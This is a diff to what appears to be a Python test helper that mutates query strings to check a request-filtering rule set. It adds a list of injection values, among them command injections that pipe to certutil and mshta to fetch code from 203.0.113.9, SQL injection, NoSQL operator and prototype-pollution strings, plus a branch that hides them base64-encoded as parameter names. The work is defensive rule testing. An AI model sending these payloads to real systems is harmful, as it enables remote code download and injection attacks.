@@ -11,6 +11,7 @@ from conftest import SEKISHO
 RULES = pathlib.Path(__file__).resolve().parents[2] / "rules"
 MARKS = ["&", "=", "?", "%26", "%3d", "%3D", "%2526", "%00", "//", "..", "\\x22", "\\x26", "%5c", "\\x5c", "%0a", "%0d",
          "+", "%2b", "&&", "=&", "&=", "/*", "*/", "&lt;", "%u0026", "&#61;", ".php", "%2f"]  # fmt: skip
+NAMES = [";certutil -f http://203.0.113.9/x", "|mshta http://203.0.113.9/", "$gt", "__proto__.polluted", "' or 1=1-- -"]
 
 
 def lines_of_the_pack():
@@ -28,7 +29,7 @@ def percent(text):
 def tangle(r, target, other):
     query = other.split("?", 1)[-1]
     at = r.randrange(len(target) + 1)
-    how = r.randrange(9)
+    how = r.randrange(10)
     if how == 0:
         return target + "&" + query
     if how == 1:
@@ -45,6 +46,8 @@ def tangle(r, target, other):
         return target[:at] + percent(target[at : at + r.randrange(9)]) + target[at + 8 :]
     if how == 7:
         return "/b?d=" + base64.b64encode(query.encode()).decode() + "&e=2"
+    if how == 8:  # as a name
+        return "/b?" + base64.urlsafe_b64encode(r.choice(NAMES).encode()).decode().rstrip("=") + r.choice(["=1", ""]) + "&e=%32"
     return "/a?" + "&".join(r.sample(query.split("&"), r.randrange(len(query.split("&"))) + 1)) + r.choice(MARKS)
 
 
